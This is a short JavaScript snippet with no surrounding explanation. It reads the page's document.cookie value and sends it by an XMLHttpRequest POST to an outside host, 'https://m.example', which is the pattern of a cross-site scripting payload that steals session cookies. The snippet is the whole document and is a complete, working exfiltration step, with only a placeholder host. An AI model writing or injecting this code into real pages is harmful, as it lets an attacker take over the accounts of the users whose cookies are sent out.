const x = new XMLHttpRequest();
const state = {};
state.v = document.cookie;
x.open('POST', 'https://m.example');
x.send(state.v);
